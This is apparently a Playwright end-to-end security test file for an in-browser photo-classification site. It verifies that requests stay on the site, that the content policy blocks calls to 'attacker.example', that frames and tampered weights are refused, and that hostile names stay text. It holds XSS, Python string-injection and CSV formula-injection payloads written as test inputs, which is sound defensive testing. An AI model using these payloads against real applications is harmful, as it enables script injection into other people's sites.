/**
 * Nothing leaves the page, and nothing that a visitor opens becomes markup or script. `SKLENS_REQUESTS` names a file for the
 * requests of a session.
 */
import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { VIEWS } from '../src/lib/permalink';
import { en } from '../src/strings/en';
import { ja } from '../src/strings/ja';
import { CAMERA, openSite, visit, type Site, type Visit } from './browser';
import { drop, galleryFiles, galleryPhoto, openView, runOn, saved, settled, zoomTo } from './explorer';

const fixtures = new URL('../../tests/fixtures/', import.meta.url);

/** Addresses within the site in Markdown, each once with its count, without the hashes of their contents. */
function requestLog(addresses: readonly string[]): string {
  const counts = new Map<string, number>();
  for (const address of addresses) {
    const name = address.startsWith('blob:') ? 'blob: (within the page)' : (address || 'index.html').replace(/^((?:assets|models)\/.*)-[\w-]{8}\./, '$1.');
    counts.set(name, (counts.get(name) ?? 0) + 1);
  }
  const rows = [...counts].map(([name, count]) => `| ${name} | ${count} |\n`);
  return `# Requests of a session

A visit in Chromium: the page opens, a JPEG, a PNG and a WebP of the visitor's are dropped, the zoom moves, the engine is chosen anew, a
PyTorch checkpoint is dropped, every view is opened, a collection is looked at, the camera runs and stops, the tour is read to its end,
the analysis is saved, the page is read in Japanese, the model card is opened. Every request of the page and its workers was a GET
without a body to the site itself, which \`www/e2e/privacy.test.ts\` demands;
\`SKLENS_REQUESTS=../docs/requests.md npm --prefix www run e2e -- privacy\` writes this list.

| address, in the order of the first request, without the hash of its content | requests |
| --- | ---: |
${rows.join('')}`;
}

let site: Site;
beforeAll(async () => {
  site = await openSite('none', CAMERA);
});
afterAll(() => site.close());

test('a whole session asks for nothing but the site\'s own files and sends nothing', async () => {
  const context = await site.browser.newContext({ viewport: { width: 1440, height: 900 } });
  const page = await context.newPage();
  const requests: { method: string; url: string; body: string | null }[] = [];
  // Those of workers are the context's, not the page's.
  context.on('request', (request) => requests.push({ method: request.method(), url: request.url(), body: request.postData() }));
  await page.goto(site.url, { timeout: 120_000 });
  await settled(page);
  const own: [Buffer, string, string][] = [
    [await galleryPhoto((await galleryFiles())[2] as string), 'jpg', 'image/jpeg'],
    [await readFile(new URL('images/alpha.png', fixtures)), 'png', 'image/png'],
    [await readFile(new URL('images/lossy.webp', fixtures)), 'webp', 'image/webp'],
  ];
  for (const [bytes, ending, type] of own) {
    await drop(page, bytes, `secret holiday.${ending}`, type);
    await page.locator(`.frame img[alt*="holiday.${ending}"]`).waitFor();
    await settled(page);
  }
  await zoomTo(page, 1.6);
  await runOn(page, 'cpu');
  await page.getByRole('button', { name: /koala/i }).first().click();
  await settled(page);

  await drop(page, await readFile(new URL('weights/small.pth', fixtures)), 'holiday.pth', '');
  await page.getByText('Which network is “holiday.pth” for?').waitFor();
  await page.keyboard.press('Escape');
  await settled(page);

  for (const view of VIEWS) {
    await openView(page, en.views.names[view]);
    await page.getByText(en.views.loading).waitFor({ state: 'detached' });
    await page.locator('main h2').first().waitFor();
    if (view === 'collections') {
      await page.getByRole('button', { name: 'Take the gallery' }).click();
      await page.getByRole('status').filter({ hasText: 'photos are done.' }).waitFor({ state: 'attached', timeout: 120_000 });
    }
    if (view === 'tour') {
      const next = () => page.evaluate(() => document.querySelector('a[rel=next]')?.getAttribute('href') ?? null);
      for (let step = await next(); step !== null; step = await next()) {
        await page.locator('a[rel=next]').click();
        await expect.poll(next).not.toBe(step);
      }
    }
  }
  await openView(page, en.views.names.zoom);
  await page.getByRole('button', { name: 'Camera', exact: true }).click();
  await page.locator('.frame video').waitFor();
  await page.getByRole('button', { name: 'Stop', exact: true }).click();
  await settled(page);
  await saved(page, 'Save as JSON');
  await page.getByRole('combobox', { name: 'Language' }).selectOption('ja');
  await page.getByRole('navigation', { name: ja.views.label }).waitFor();
  await page.locator('a[href$="model-card.html"]').first().click();
  await page.waitForURL(/model-card/);

  const asked = requests.map(({ url }) => url.replace(site.url, ''));
  const log = process.env.SKLENS_REQUESTS;
  if (log) await writeFile(log, requestLog(asked));
  // The log is one of a whole session: what is loaded late is in it, that of workers included.
  for (const late of [/engine.*\.wasm$/, /pictures.*\.wasm$/, /readers.*\.wasm$/, /ja-.*\.js$/, /Tour-.*\.js$/, /Collections-.*\.js$/, /model-card\.html$/]) {
    expect(asked.some((address) => late.test(address)), String(late)).toBe(true);
  }
  for (const { method, url, body } of requests) {
    expect([method, body]).toEqual(['GET', null]);
    expect(url.startsWith(site.url) || url.startsWith('blob:') || url.startsWith('data:'), url).toBe(true);
    expect(decodeURIComponent(url)).not.toContain('holiday');
    expect(new URL(url).search).toBe('');
  }
  await context.close();
});

test('the policy stops other hosts, inline scripts and markup from strings', async () => {
  const { page } = await visit(site);
  await settled(page);
  const outcome = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violations.push(effectiveDirective));
    const fetched = await fetch('https://attacker.example/').then(() => 'fetched', () => 'refused');
    const script = document.createElement('script');
    script.append('window.injected = true');
    document.body.append(script);
    const attempt = (action: () => unknown) => {
      try {
        action();
        return 'done';
      } catch {
        return 'refused';
      }
    };
    const markup = attempt(() => (document.createElement('div').innerHTML = '<img src=x onerror="window.injected = true">'));
    const foreign = attempt(() => new Worker('https://attacker.example/worker.js'));
    const image = new Image();
    await new Promise((ended) => {
      image.onload = image.onerror = ended;
      image.src = 'https://attacker.example/pixel.gif';
    });
    return { fetched, markup, foreign, injected: 'injected' in window, violations };
  });
  expect(outcome).toMatchObject({ fetched: 'refused', markup: 'refused', foreign: 'refused', injected: false });
  expect(outcome.violations).toEqual(expect.arrayContaining(['connect-src', 'img-src']));
  await page.close();
});

test('the policy binds the worker that the photos are in as well', async () => {
  const { page } = await visit(site);
  await settled(page);
  const directive = await page.workers()[0]?.evaluate(
    () =>
      new Promise<string>((settle) => {
        addEventListener('securitypolicyviolation', (event) => settle((event as SecurityPolicyViolationEvent).effectiveDirective));
        // Where it is not forbidden, it fails because there is no such host.
        void fetch('https://attacker.example/').catch(() => setTimeout(() => settle('allowed'), 2000));
      }),
  );
  expect(directive).toBe('connect-src');
  await page.close();
});

test('another site cannot show the page within its own', async () => {
  const page = await site.browser.newPage();
  const refused = page.waitForEvent('console', (message) => message.text().includes('frame-ancestors'));
  await page.setContent(`<iframe src="${site.url}"></iframe>`);
  await refused;
  await page.close();
});

test('shipped weights of which one bit changed on the way are refused', async () => {
  const context = await site.browser.newContext();
  await context.route('**/*.safetensors', async (route) => {
    const response = await route.fetch();
    const body = await response.body();
    body[body.length - 100] = (body[body.length - 100] as number) ^ 1;
    await route.fulfill({ response, body });
  });
  const page = await context.newPage();
  await page.goto(site.url, { timeout: 120_000 });
  await page.getByRole('alert').getByText(/are damaged: their SHA-256 is [0-9a-f]{64} and should be [0-9a-f]{64}/).waitFor();
  await context.close();
});

describe('what a visitor opens stays text', () => {
  /** No slash, which names of files cannot have. */
  const evil = '<img src=x onerror="window.injected=1"><script>window.injected=1<script>';
  /** Ends a line and a string where it is not quoted. */
  const crooked = 'a"\nimport os\n"""b';
  let visited: Visit;
  let page: Page;
  beforeEach(async () => {
    visited = await visit(site);
    page = visited.page;
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
    await settled(page);
  });
  afterEach(async () => {
    // The policy would stop the script; that there is an element at all is the fault.
    expect(await page.locator('img[src="x"], script:not([src])').count()).toBe(0);
    expect(await page.evaluate(() => 'injected' in window)).toBe(false);
    expect(visited.problems).toEqual([]);
    await page.close();
  });

  /** The bundled weights with `metadata` and tensors besides. */
  async function weights(metadata: Record<string, string>, tensors: readonly string[] = []): Promise<Buffer> {
    const models = new URL('../../models/', import.meta.url);
    const name = (await readdir(models)).find((name) => name.endsWith('.safetensors')) as string;
    const file = await readFile(new URL(name, models));
    const start = 8 + Number(file.readBigUInt64LE());
    const header = JSON.parse(file.toString('utf8', 8, start)) as Record<string, unknown>;
    header.__metadata__ = { ...(header.__metadata__ as object), ...metadata };
    const data = file.subarray(start);
    tensors.forEach((tensor, at) => (header[tensor] = { dtype: 'F32', shape: [1], data_offsets: [data.length + 4 * at, data.length + 4 * at + 4] }));
    const text = Buffer.from(JSON.stringify(header));
    const length = Buffer.alloc(8);
    length.writeBigUInt64LE(BigInt(text.length));
    return Buffer.concat([length, text, data, Buffer.alloc(4 * tensors.length)]);
  }

  test('names of photos and of files that are none', async () => {
    await drop(page, await galleryPhoto((await galleryFiles())[1] as string), `${evil}.jpg`, 'image/jpeg');
    await page.getByText('It stays on this device').waitFor();
    await settled(page);
    expect(await page.locator('.frame img').getAttribute('alt')).toContain(evil);
    await drop(page, Buffer.from('nonsense'), `${evil}.txt`, 'text/plain');
    await page.getByRole('alert').getByText(evil).waitFor();
  });

  test('labels and metadata of weights, on the page and in what it saves', async () => {
    const told = { dataset: evil, licence: evil, top1: evil, top5: evil, epochs: '1', history: '[]', card: evil, note: evil };
    await drop(page, await weights({ ...told, labels: JSON.stringify(Array(200).fill(evil)) }), `${evil}.safetensors`, '');
    await page.locator('.look ol li').first().getByText(evil).waitFor({ timeout: 60_000 });
    await settled(page);
    await drop(page, await galleryPhoto((await galleryFiles())[1] as string), `${crooked}.jpg`, 'image/jpeg');
    await page.locator('.frame img[alt*="import os"]').waitFor();
    await settled(page);
    expect(await page.locator('.look ol li').first().getAttribute('title')).toBe(evil);
    // Data set, both accuracies and licence.
    expect((await page.locator('#engine').textContent())?.split(evil)).toHaveLength(5);
    await openView(page, 'What if');
    const whatIf = page.locator('section[aria-labelledby=what-if]');
    await whatIf.getByRole('button', { name: 'All 5×5' }).click();
    await whatIf.locator('table').getByText(evil).first().waitFor();
    await openView(page, 'Network');
    await page.locator('section[aria-labelledby=select] .head').first().waitFor();

    await openView(page, 'Zoom');
    const file = JSON.parse(await saved(page, 'Save as JSON')) as { weights: { metadata: Record<string, string> }; results: { top: { label: string }[] }[] };
    expect([file.weights.metadata.note, file.results[0]?.top[0]?.label]).toEqual([evil, evil]);
    await page.getByRole('button', { name: /^Copy as Python/ }).click();
    const copied = () => page.evaluate(() => navigator.clipboard.readText());
    await expect.poll(copied).toContain('PHOTO = ');
    const program = (await copied()).split('\n');
    expect(program).toContain(`PHOTO = ${JSON.stringify(`${crooked}.jpg`)}`);
    expect(program).toContain(`WEIGHTS = ${JSON.stringify(`${evil}.safetensors`)}`);
    expect(program.filter((line) => line.startsWith('import os'))).toEqual([]);
  });

  test('names of tensors, and of stored weights', async () => {
    await page.evaluate(async (evil) => {
      const root = await (await navigator.storage.getDirectory()).getDirectoryHandle('weights', { create: true });
      const folder = await root.getDirectoryHandle(evil, { create: true });
      const files = { '00000.piece': 'weights', 'about.json': JSON.stringify({ url: '', etag: null, size: 7, complete: true, sha256: evil }) };
      for (const [name, content] of Object.entries(files)) {
        const writable = await (await folder.getFileHandle(name, { create: true })).createWritable();
        await writable.write(content);
        await writable.close();
      }
    }, evil);
    await drop(page, await weights({}, [evil]), `${evil}.safetensors`, '');
    const dialog = page.getByRole('dialog', { name: 'Networks' });
    await dialog.locator('.misfit pre').getByText(evil).waitFor();
    expect(await dialog.textContent()).toContain(`“${evil}.safetensors”`);
    await dialog.getByRole('radio', { name: 'Stored weights' }).check();
    await dialog.locator('li').getByText(evil).first().waitFor();
    expect(await dialog.locator('li').first().textContent()).toContain(`${evil}: as it arrived`);
  });

  test('names of folders, in a chart and its drawing', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'sklens-'));
    for (const [index, name] of [evil, '=1+1'].entries()) {
      await mkdir(join(folder, name));
      await writeFile(join(folder, name, 'photo.jpg'), await galleryPhoto((await galleryFiles())[index] as string));
    }
    await openView(page, 'Collections');
    await page.locator('section[aria-labelledby=collections] input[type=file]').first().setInputFiles(folder);
    const classes = page.locator('section[aria-labelledby=classes]');
    // Names are shortened there.
    await classes.getByText(evil.slice(0, 20)).first().waitFor({ timeout: 60_000 });
    const save = async (type: string) => {
      const download = page.waitForEvent('download');
      await classes.getByRole('button', { name: type }).click();
      return readFile(await (await download).path(), 'utf8');
    };
    const drawing = await save('SVG');
    // The page's policy would not let it be parsed there.
    const elsewhere = await site.browser.newPage();
    const elements = await elsewhere.evaluate((svg) => {
      const { documentElement } = new DOMParser().parseFromString(svg, 'image/svg+xml');
      const all = [documentElement, ...documentElement.querySelectorAll('*')];
      return { names: [...new Set(all.map(({ localName }) => localName))], handlers: all.flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith('on'))), text: documentElement.textContent };
    }, drawing);
    await elsewhere.close();
    expect(elements.names).toContain('svg');
    for (const name of ['parsererror', 'script', 'img', 'foreignObject']) expect(elements.names).not.toContain(name);
    expect(elements.handlers).toEqual([]);
    expect(elements.text).toContain('onerror');
    const table = await save('CSV');
    expect(table).toContain(`"${evil.replaceAll('"', '""')}",`);
    expect(table).toMatch(/^'=1\+1,/m);
    await rm(folder, { recursive: true });
  });
});
